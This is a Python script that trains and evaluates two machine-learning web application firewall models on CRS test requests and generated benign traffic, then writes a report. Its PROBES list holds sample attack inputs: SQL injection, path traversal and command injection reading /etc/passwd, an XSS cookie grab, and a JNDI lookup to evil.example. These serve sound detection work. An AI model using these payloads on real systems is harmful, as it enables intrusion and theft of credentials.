#!/usr/bin/python3
"""Trains the two waf-v1 models shipped in saved_models/ and reports how they do on held-out data.

    /usr/bin/python3 examples/train/train.py      # Debian: python3-sklearn 1.2.1, numpy 1.24, PyYAML 6

1. Labelled corpus: attacks = CRS regression requests (../shared/crs/tests, REQUEST-93x/94x rules,
   tests that expect a rule to fire, payload visible in args/path/body); benign = generated traffic
   (benign.py). The CRS tests that expect *no* rule to fire are near misses (some still carry payloads
   that other rules catch): they are not trained on, only reported on separately.
   CRS requests sent to the test harness's /get or /post with names like "var" get a realistic path
   and argument name, half of them get 1-3 ordinary parameters alongside the payload, and all get
   benign-distributed hour and day (see unconfound), so the models learn payloads, not the harness.
2. Hold-out: attacks and CRS negatives are split by rule file (a held-out rule's payloads were never
   seen in training); generated benign traffic is split at random.
3. Features: the Python twin (examples/python/crs_ml_features.py) on each request's JSON line read
   back, i.e. exactly what the server computes.
4. Models: IsolationForest fitted on benign training traffic only (unsupervised; decision_function,
   anomaly below the threshold) and RandomForest (supervised; predict_proba[:,1], anomaly above).
   Each threshold gives ~1% false positives on the training benign traffic (out-of-bag for the forest).
5. Writes saved_models/{iforest,rf}-waf-v1/{model.joblib,manifest.json}, heldout/{benign,attack}.jsonl
   and REPORT.md.
"""
import json
import os
import random
import re
import sys

import joblib
import numpy as np
import sklearn
from sklearn.ensemble import IsolationForest, RandomForestClassifier
from sklearn.metrics import roc_auc_score

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.normpath(os.path.join(HERE, '..', '..'))
sys.path.insert(0, os.path.join(ROOT, 'examples', 'python'))
sys.path.insert(0, HERE)

import benign  # noqa: E402
from crs_ml_features import extract, parse_request_line, FEATURE_NAMES  # noqa: E402
from crs_requests import crs_requests, to_json_line  # noqa: E402

SEED = 42
MAX_LINE = 20_000
BENIGN_GENERATED = 8000
HELDOUT_FRACTION = 0.25
HELDOUT_BENIGN_WRITTEN = 1000
TARGET_TRAIN_FPR = 0.01


BENIGN_ARG_NAMES = ['q', 'search', 'name', 'comment', 'id', 'email', 'page', 'text', 'message', 'title', 'user',
                    'redirect', 'file', 'lang', 'sort', 'filter', 'token', 'description']
ENDPOINTS = benign.PAGES + ['/search', '/api/v1/items', '/api/v1/comments', '/contact', '/blog/post/12/comments']


PROBES = [
    ('GET', '/search', [('ARGS:q', 'red shoes')]),
    ('POST', '/comment', [('ARGS:text', "I'm happy with it, thanks!")]),
    ('POST', '/contact', [('ARGS:name', "O'Brien")]),
    ('GET', '/item', [('ARGS:id', '5')]),
    ('POST', '/search', [('ARGS:q', "1' UNION SELECT password FROM users--")]),
    ('GET', '/item', [('ARGS:id', '1 OR 1=1')]),
    ('GET', '/download', [('ARGS:file', '../../../../etc/passwd')]),
    ('POST', '/comment', [('ARGS:text', '<script>alert(document.cookie)</script>')]),
    ('GET', '/ping', [('ARGS:host', '127.0.0.1;cat /etc/passwd')]),
    ('GET', '/api', [('ARGS:x', '${jndi:ldap://evil.example/a}')]),
]


def unconfound(request, rng):
    """Hides the test harness: go-ftw sends payloads to /get or /post as "var" or "test"; benign traffic
    never does, so a model could learn the endpoint instead of the payload. Such paths and short
    lowercase names are replaced by ones benign traffic uses too."""
    from crs_requests import BORING_PATHS
    if request['path'] in BORING_PATHS:
        request['path'] = rng.choice(ENDPOINTS)
    request['args'] = [('ARGS:' + rng.choice(BENIGN_ARG_NAMES) if re.fullmatch('ARGS:[a-z]{1,8}', n) else n, v)
                       for n, v in request['args']]
    # Real attacks usually ride along ordinary parameters; go-ftw sends the payload alone.
    if rng.random() < 0.5:
        context = [('ARGS:csrf_token', benign.token(rng, 40)), ('ARGS:page', str(rng.randint(1, 20))),
                   ('ARGS:lang', rng.choice(['en', 'de', 'fr'])), ('ARGS:utm_source', 'newsletter'),
                   ('ARGS:sort', 'relevance'), ('ARGS:id', str(rng.randint(1, 99999)))]
        extra = rng.sample(context, rng.randint(1, 3))
        at = rng.randint(0, len(request['args']))
        request['args'] = request['args'][:at] + extra + request['args'][at:]
    # Hour and day come from the benign distribution, so time of day tells nothing.
    request['hour'], request['day'] = benign.hour_day(rng)
    return request


def featurise(lines):
    return np.array([extract(parse_request_line(line)) for line in lines], dtype=np.float64)


def split_by_file(items, rng):
    files = sorted({meta['file'] for _, meta in items})
    rng.shuffle(files)
    held = set(files[:int(len(files) * HELDOUT_FRACTION)])
    return [i for i in items if i[1]['file'] not in held], [i for i in items if i[1]['file'] in held]


def rates(scores_benign, scores_attack, threshold, below):
    if below:
        return float(np.mean(scores_attack < threshold)), float(np.mean(scores_benign < threshold))
    return float(np.mean(scores_attack > threshold)), float(np.mean(scores_benign > threshold))


def save(name, model, manifest):
    folder = os.path.join(ROOT, 'saved_models', name)
    os.makedirs(folder, exist_ok=True)
    joblib.dump(model, os.path.join(folder, 'model.joblib'))
    with open(os.path.join(folder, 'manifest.json'), 'w') as out:
        json.dump(manifest, out, indent=2)
        out.write('\n')
    return os.path.getsize(os.path.join(folder, 'model.joblib'))


def main():
    rng = random.Random(SEED)
    attacks, negatives = [], []
    for request, meta in crs_requests(seed=SEED):
        line = to_json_line(unconfound(request, rng))
        if len(line) > MAX_LINE or not meta['visible']:
            continue
        if meta['attack']:
            attacks.append((line, meta))
        elif meta['negative']:
            negatives.append((line, meta))
    # A generator of its own, so the held-out rule files do not change when the data preparation does.
    split_rng = random.Random(SEED)
    attack_train, attack_test = split_by_file(attacks, split_rng)
    negative_train, negative_test = split_by_file(negatives, split_rng)
    generated = [to_json_line(r) for r in benign.benign_requests(BENIGN_GENERATED, seed=SEED)]
    cut = int(len(generated) * (1 - HELDOUT_FRACTION))
    benign_train = generated[:cut]
    benign_test_generated = generated[cut:]
    benign_test_negative = [line for line, _ in negative_test]

    X_benign = featurise(benign_train)
    X_attack = featurise([line for line, _ in attack_train])
    X = np.vstack([X_benign, X_attack])
    y = np.concatenate([np.zeros(len(X_benign)), np.ones(len(X_attack))])

    iforest = IsolationForest(n_estimators=100, max_samples=256, random_state=SEED).fit(X_benign)
    if_threshold = float(np.quantile(iforest.decision_function(X_benign), TARGET_TRAIN_FPR))
    # 50 trees of at most 100 leaves: the deepest forest whose pickle stays under 1 MB.
    rf = RandomForestClassifier(n_estimators=50, max_leaf_nodes=100, min_samples_leaf=2,
                                oob_score=True, random_state=SEED, n_jobs=1).fit(X, y)
    # Out-of-bag probabilities: each benign row scored only by trees that did not see it.
    rf_threshold = float(np.quantile(rf.oob_decision_function_[:len(X_benign), 1], 1 - TARGET_TRAIN_FPR))

    sizes = {
        'iforest-waf-v1': save('iforest-waf-v1', iforest, {
            'name': 'iforest-waf-v1', 'adapter': 'sklearn', 'model': 'model.joblib', 'output': 'decision_function',
            'threshold': round(if_threshold, 6), 'anomalyWhen': 'below', 'extractor': 'waf-v1'}),
        'rf-waf-v1': save('rf-waf-v1', rf, {
            'name': 'rf-waf-v1', 'adapter': 'sklearn', 'model': 'model.joblib', 'output': 'predict_proba[:,1]',
            'threshold': round(rf_threshold, 6), 'anomalyWhen': 'above', 'extractor': 'waf-v1'}),
    }

    held = os.path.join(HERE, 'heldout')
    os.makedirs(held, exist_ok=True)
    benign_written = benign_test_generated[:HELDOUT_BENIGN_WRITTEN]
    with open(os.path.join(held, 'benign.jsonl'), 'w', encoding='ascii') as out:
        out.write('\n'.join(benign_written) + '\n')
    with open(os.path.join(held, 'attack.jsonl'), 'w', encoding='ascii') as out:
        out.write('\n'.join(line for line, _ in attack_test) + '\n')

    T_gen = featurise(benign_test_generated)
    T_neg = featurise(benign_test_negative)
    T_att = featurise([line for line, _ in attack_test])
    T_written = featurise(benign_written)
    rows = []
    for name, score, threshold, below in (
            ('iforest-waf-v1', iforest.decision_function, round(if_threshold, 6), True),
            ('rf-waf-v1', lambda x: rf.predict_proba(x)[:, 1], round(rf_threshold, 6), False)):
        s_att, s_gen, s_neg, s_written = score(T_att), score(T_gen), score(T_neg), score(T_written)
        detection, fpr_gen = rates(s_gen, s_att, threshold, below)
        _, fpr_neg = rates(s_neg, s_att, threshold, below)
        _, fpr_written = rates(s_written, s_att, threshold, below)
        sign = -1 if below else 1
        auc = roc_auc_score(np.concatenate([np.zeros(len(s_written)), np.ones(len(s_att))]),
                            sign * np.concatenate([s_written, s_att]))
        rows.append((name, threshold, detection, fpr_gen, fpr_neg, fpr_written, auc, sizes[name]))

    by_file = {}
    for line, meta in attack_test:
        by_file.setdefault(meta['file'].split('/')[0], 0)
        by_file[meta['file'].split('/')[0]] += 1
    with open(os.path.join(HERE, 'REPORT.md'), 'w') as out:
        out.write('# waf-v1 models: held-out results\n\n')
        out.write('Written by `/usr/bin/python3 examples/train/train.py` (Python %s, scikit-learn %s, numpy %s, seed %d).\n\n'
                  % (sys.version.split()[0], sklearn.__version__, np.__version__, SEED))
        out.write('Training: %d generated benign, %d attacks (CRS tests of %d rule files).\n'
                  % (len(benign_train), len(attack_train), len({m['file'] for _, m in attack_train})))
        out.write('Held out: %d generated benign, %d CRS negative tests, %d attacks from %d rule files never seen in training'
                  ' (%s).\n\n' % (len(benign_test_generated), len(benign_test_negative), len(attack_test),
                                  len({m['file'] for _, m in attack_test}),
                                  ', '.join('%s: %d' % kv for kv in sorted(by_file.items()))))
        out.write('| model | threshold | detection rate | FPR generated benign | FPR CRS negatives | FPR heldout/benign.jsonl | ROC AUC | model.joblib |\n')
        out.write('|---|---|---|---|---|---|---|---|\n')
        for name, threshold, detection, fpr_gen, fpr_neg, fpr_written, auc, size in rows:
            out.write('| %s | %s | %.1f%% | %.2f%% | %.1f%% | %.2f%% | %.3f | %d KB |\n'
                      % (name, threshold, 100 * detection, 100 * fpr_gen, 100 * fpr_neg, 100 * fpr_written, auc, size // 1024))
        out.write('\nThresholds give ~%d%% false positives on the training benign traffic; `crs-ml-server calibrate` '
                  're-derives them on held-out data. The CRS negative tests (never trained on) are deliberately close to '
                  'attacks and some carry payloads that other rules catch, so their "FPR" is an upper bound; '
                  'attacks carried only in headers or cookies are invisible to waf-v1 (they are left out).\n' % (100 * TARGET_TRAIN_FPR))
        out.write('heldout/benign.jsonl holds %d of the held-out generated benign requests; '
                  'heldout/attack.jsonl holds all held-out attacks.\n' % len(benign_written))
        out.write('\nHand-written probes (POST/GET with one parameter, hour 14), scored with the shipped thresholds:\n\n')
        out.write('| request | rf-waf-v1 P(attack) | verdict | iforest-waf-v1 score | verdict |\n|---|---|---|---|---|\n')
        for method, path, args in PROBES:
            x = np.array([extract({'method': method, 'path': path, 'args': args, 'files': [], 'sizes': [], 'hour': 14, 'day': 29})])
            p_rf = float(rf.predict_proba(x)[0, 1])
            s_if = float(iforest.decision_function(x)[0])
            shown = '%s %s %s' % (method, path, ' '.join('%s=%s' % (n[5:], v) for n, v in args))
            out.write('| `%s` | %.3f | %s | %.3f | %s |\n' % (
                shown.replace('|', '\\|'), p_rf, 'block' if p_rf > round(rf_threshold, 6) else 'pass',
                s_if, 'block' if s_if < round(if_threshold, 6) else 'pass'))
        importances = sorted(zip(rf.feature_importances_, FEATURE_NAMES), reverse=True)[:10]
        out.write('\nRandomForest feature importances (top 10): %s.\n'
                  % ', '.join('`%s` %.3f' % (name, value) for value, name in importances))
    for row in rows:
        print('%s threshold %s detection %.3f fpr(generated) %.4f fpr(crs-negative) %.3f fpr(file) %.4f auc %.4f size %d' % row)


if __name__ == '__main__':
    main()
